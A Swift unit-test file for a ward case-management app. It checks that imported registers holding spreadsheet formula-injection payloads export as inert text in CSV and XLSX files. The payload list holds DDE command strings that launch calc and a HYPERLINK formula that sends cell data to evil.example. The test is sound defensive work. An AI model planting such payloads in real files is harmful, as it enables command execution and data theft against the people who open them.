import Foundation
import XCTest
@testable import WardCaseExport
@testable import WardCaseCore

/// Cells that cannot run. Someone types spreadsheet formulas into a register they hand to the
/// ward (names and addresses from OWASP's CSV-injection list); the ward imports it, and a clerk
/// later exports the register and opens the file in Excel. Nothing in it may run as a formula.
final class FormulaInjectionTests: XCTestCase {
    static let payloads = [
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example/?x=\"&A1;\"Bấm vào đây\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "=1+2\";=1+2",
        "=10+20+cmd|' /C calc'!A0",
        "@SUM(1+1)",
    ]

    func testOWASPPayloadsImportedThenExportedComeOutInert() throws {
        let l = try Localizer.load(.vi, resources: ResourceLocator.directory())
        let store = try WardStore.inMemory()
        let rows = [["Tên cơ sở", "Loại hình", "Địa chỉ"]]
            + Self.payloads.enumerated().map { i, p in [p, "karaoke", i % 2 == 0 ? p : "Số \(i) phố Láng"] }
        let plan = try EstablishmentImport.plan(rows, store: store, l: l)
        XCTAssertEqual(plan.added, Self.payloads.count, plan.report(l).joined(separator: "\n"))
        try store.apply(plan, strict: true, by: store.tester())
        let saved = try store.establishments(EstablishmentQuery(language: .vi), offset: 0, limit: 100)
        let names = Set(saved.map(\.establishment.name))

        // CSV: every text that would run starts with an apostrophe in the file…
        let csv = EstablishmentExport.csv(saved, l)
        let raw = try XCTUnwrap(String(data: csv, encoding: .utf8))
        for name in names where "=+-@".contains(name.first!) {
            XCTAssertTrue(raw.contains("'" + name.replacingOccurrences(of: "\"", with: "\"\"")), "\(name) is not inert in:\n\(raw)")
        }
        let lines = raw.split(separator: "\r\n").dropFirst()
        for line in lines {
            let start = line.drop { $0 == "\u{FEFF}" || $0 == "\"" }.first
            XCTAssertFalse(start.map { "=+-@\t\r".contains($0) } ?? false, "a row starts with a formula: \(line)")
        }
        // …and wardcase reads its own file back as it was written (the apostrophe comes off).
        let back = CSV.read(csv).textRows.dropFirst().map { $0[0] }
        XCTAssertEqual(Set(back), names)

        // XLSX: text stays inline text; no cell holds a formula.
        let xlsx = try EstablishmentExport.xlsx(saved, l)
        let sheet = try XCTUnwrap(ZipReader(xlsx).read("xl/worksheets/sheet1.xml"))
        let xml = String(decoding: sheet, as: UTF8.self)
        XCTAssertFalse(xml.contains("<f>") || xml.contains("<f "), "a formula in the sheet")
        XCTAssertTrue(xml.contains("t=\"inlineStr\""))

        // The audit trail's export: the same rule for whatever text it carries.
        let entries = try store.auditEntries(AuditFilter(), offset: 0, limit: 1000, by: store.tester())
        let auditCSV = AuditExport.csv(entries, l)
        let auditRaw = String(decoding: auditCSV, as: UTF8.self)
        for cell in CSV.read(auditCSV).textRows.joined() where cell.first.map({ "=+-@".contains($0) }) ?? false {
            XCTAssertTrue(auditRaw.contains("'" + cell.replacingOccurrences(of: "\"", with: "\"\"")), "\(cell) is not inert")
        }
        XCTAssertFalse(String(decoding: try XCTUnwrap(ZipReader(try AuditExport.xlsx(entries, l)).read("xl/worksheets/sheet1.xml")), as: UTF8.self)
            .contains("<f>"))
    }

    func testNumbersAndDatesAreWrittenAsTheyAre() {
        let cells: [Grid.Cell] = [.number(-5), .date(2026, 12, 4), .text("-5"), .text("Karaoke"), .text("'=đã có dấu nháy"), .text("'bình thường")]
        let data = CSV.write(cells: [cells])
        XCTAssertEqual(String(decoding: data, as: UTF8.self), "\u{FEFF}-5,04/12/2026,'-5,Karaoke,''=đã có dấu nháy,'bình thường\r\n")
        // Read back, every text is what it was.
        XCTAssertEqual(CSV.read(data).rows[0].suffix(4), [.text("-5"), .text("Karaoke"), .text("'=đã có dấu nháy"), .text("'bình thường")])
    }
}
